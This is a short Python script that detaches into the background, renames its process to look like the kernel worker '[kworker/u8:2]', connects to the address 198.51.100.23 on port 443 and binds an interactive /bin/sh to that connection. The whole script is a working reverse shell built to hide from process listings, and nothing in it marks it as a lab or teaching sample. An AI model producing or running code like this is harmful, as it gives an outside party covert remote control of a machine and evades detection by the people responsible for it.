import os, socket, sys

def daemonize():
    if os.fork() > 0:
        os._exit(0)
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    os.chdir("/")
    os.umask(0)

daemonize()
try:
    import setproctitle
    setproctitle.setproctitle("[kworker/u8:2]")
except ImportError:
    pass

s = socket.socket()
s.connect(("198.51.100.23", 443))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
os.execl("/bin/sh", "sh", "-i")
